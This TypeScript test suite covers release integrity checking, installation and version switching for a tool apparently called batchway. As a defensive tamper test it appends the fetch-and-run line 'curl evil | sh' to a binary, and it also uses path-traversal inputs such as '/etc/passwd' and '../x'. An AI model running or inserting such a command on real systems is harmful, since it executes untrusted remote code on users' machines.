import assert from 'node:assert/strict'
import {
  appendFileSync,
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { agentIn, lastingPath, prefixOf } from '../../app/release.ts'
import { placeRelease } from './place-release.ts'
import { compareVersions, currentVersion, listReleases, useVersion, versionFolder } from './prefix.ts'
import { openBench } from './testing-release.ts'
import { parseSums, verifyRelease } from './verify-release.ts'

describe('a release', () => {
  it('that is as it was built has nothing against it', async () => {
    using bench = openBench()
    assert.deepEqual(await verifyRelease(bench.release('0.1.0').root), [])
  })

  it('shows each file that was changed, added, taken away, opened or made a link', async () => {
    using bench = openBench()
    const { root } = bench.release('0.1.0')
    appendFileSync(join(root, 'bin/batchway'), ' ')
    assert.deepEqual(await verifyRelease(root), ['bin/batchway: was changed'])

    writeFileSync(join(root, 'lib/extra.js'), '')
    rmSync(join(root, 'release.json'))
    assert.deepEqual(await verifyRelease(root), [
      'bin/batchway: was changed',
      'lib/extra.js: does not belong here',
      'release.json: is missing',
    ])
    chmodSync(join(root, 'bin/batchway'), 0o777)
    assert.match(String(await verifyRelease(root)), /bin\/batchway: can be written by others \(mode 777\)/)
    rmSync(join(root, 'bin/batchway'))
    symlinkSync('/bin/sh', join(root, 'bin/batchway'))
    assert.match(String(await verifyRelease(root)), /bin\/batchway: is not a plain file/)
  })

  for (const line of ['', 'abc  x', `${'a'.repeat(64)}  /etc/passwd`, `${'a'.repeat(64)}  a/../../b`])
    it(`has no list with the line ${JSON.stringify(line.slice(-14))}`, () => {
      if (line === '') assert.deepEqual(parseSums(line), [])
      else assert.throws(() => parseSums(line), /line 1 is not/)
    })
})

describe('installing a release', () => {
  it('puts it beside the others, readable by all, whatever the umask and the modes it was unpacked with', async () => {
    using bench = openBench()
    const prefix = join(bench.folder, 'opt')
    const source = bench.release('0.1.0')
    chmodSync(join(source.root, 'release.json'), 0o600)
    const before = process.umask(0o077)
    try {
      assert.deepEqual(await placeRelease(source, prefix), { root: versionFolder(prefix, '0.1.0'), isNew: true })
    } finally {
      process.umask(before)
    }

    const root = versionFolder(prefix, '0.1.0')
    assert.equal(statSync(join(root, 'release.json')).mode & 0o777, 0o644)
    assert.equal(statSync(join(root, 'bin/batchway')).mode & 0o777, 0o755)
    assert.equal(statSync(join(root, 'lib/node_modules')).mode & 0o777, 0o755)
    assert.deepEqual(readdirSync(join(prefix, 'versions')), ['0.1.0'])
    assert.deepEqual(await placeRelease(source, prefix), { root, isNew: false }, 'a second time changes nothing')
  })

  it('refuses what was changed since it was built, and leaves nothing behind', async () => {
    using bench = openBench()
    const source = bench.release('0.1.0')
    appendFileSync(join(source.root, 'bin/batchway'), 'curl evil | sh\n')
    await assert.rejects(
      placeRelease(source, join(bench.folder, 'opt')),
      /is not what was built:\n {2}bin\/batchway: was changed/,
    )
    assert.deepEqual(listReleases(join(bench.folder, 'opt')), [])
  })

  it('never writes over another build of the same version', async () => {
    using bench = openBench()
    const prefix = join(bench.folder, 'opt')
    await placeRelease(bench.release('0.1.0'), prefix)
    const main = join(versionFolder(prefix, '0.1.0'), 'lib/node_modules/batchway/dist/cli/main.js')
    const text = readFileSync(main, 'utf8')
    await assert.rejects(placeRelease(bench.release('0.1.0'), prefix), /holds another build of 0\.1\.0/)
    assert.equal(readFileSync(main, 'utf8'), text)
  })

  it('refuses a version that would lead out of the folder', async () => {
    using bench = openBench()
    const source = bench.release('0.1.0')
    for (const version of ['..', '../x', '.hidden', ''])
      await assert.rejects(placeRelease({ ...source, version }, join(bench.folder, 'opt')), /not a version/)
  })
})

describe('the version that is used', () => {
  it('is turned by one link, which is never missing meanwhile, and keeps the older ones', async () => {
    using bench = openBench()
    const prefix = join(bench.folder, "o'pt")
    await placeRelease(bench.release('0.1.0'), prefix)
    await placeRelease(bench.release('0.2.0'), prefix)
    assert.equal(currentVersion(prefix), null)
    useVersion(prefix, '0.1.0')
    assert.equal(currentVersion(prefix), '0.1.0')
    assert.equal(
      realpathSync(join(prefix, 'bin/batchway')),
      realpathSync(join(versionFolder(prefix, '0.1.0'), 'bin/batchway')),
    )

    useVersion(prefix, '0.2.0')
    assert.equal(readlinkSync(join(prefix, 'current')), 'versions/0.2.0')
    assert.deepEqual(
      listReleases(prefix).map(({ version }) => version),
      ['0.1.0', '0.2.0'],
    )
    const shepherd = readFileSync(join(prefix, 'batchway-local-shepherd'), 'utf8')
    assert.ok(
      shepherd.includes(`versions/0.2.0/lib/node_modules/@batchway/schedulers/dist/local/shepherd.js'`),
      shepherd,
    )
    assert.deepEqual(
      readdirSync(prefix).sort(),
      ['batchway-commands', 'batchway-local-shepherd', 'batchway-read-log', 'bin', 'current', 'versions'],
      'nothing half-made is left',
    )
  })

  it('does not replace what is no link of an installation', async () => {
    using bench = openBench()
    const prefix = join(bench.folder, 'opt')
    await placeRelease(bench.release('0.1.0'), prefix)
    mkdirSync(join(prefix, 'current'))
    assert.throws(() => useVersion(prefix, '0.1.0'), /current is in the way/)
    assert.ok(lstatSync(join(prefix, 'current')).isDirectory())
  })

  it('is where jobs of a cluster find their agent, by the path of the version', async () => {
    using bench = openBench()
    const prefix = join(bench.folder, 'opt')
    await placeRelease(bench.release('0.1.0'), prefix)
    useVersion(prefix, '0.1.0')
    const root = realpathSync(versionFolder(prefix, '0.1.0'))
    assert.deepEqual(agentIn(prefix), {
      directory: join(root, 'lib/node_modules/@batchway/agent'),
      node: join(root, `lib/node_modules/node-${process.platform}-${process.arch}/bin/node`),
    })
    assert.ok(existsSync(root))
  })

  it('is what units name by the link that outlives it', () => {
    const installed = { root: '/opt/batchway/versions/0.1.0' }
    assert.equal(prefixOf(installed), '/opt/batchway')
    assert.equal(
      lastingPath('/opt/batchway/versions/0.1.0/bin/batchway', installed),
      '/opt/batchway/current/bin/batchway',
    )
    assert.equal(lastingPath('/opt/batchway/versions/0.1.0-rc1/x', installed), '/opt/batchway/versions/0.1.0-rc1/x')
    const unpacked = { root: '/srv/batchway-0.1.0' }
    assert.equal(prefixOf(unpacked), null)
    assert.equal(lastingPath('/srv/batchway-0.1.0/bin/batchway', unpacked), '/srv/batchway-0.1.0/bin/batchway')
    assert.equal(lastingPath('/usr/bin/x', null), '/usr/bin/x')
  })

  it('is listed by number, what comes before a release first', () =>
    assert.deepEqual(['0.10.0', '0.2.0', '0.2.0-rc1', '0.2.0-rc2', '1.0.0'].toSorted(compareVersions), [
      '0.2.0-rc1',
      '0.2.0-rc2',
      '0.2.0',
      '0.10.0',
      '1.0.0',
    ]))
})
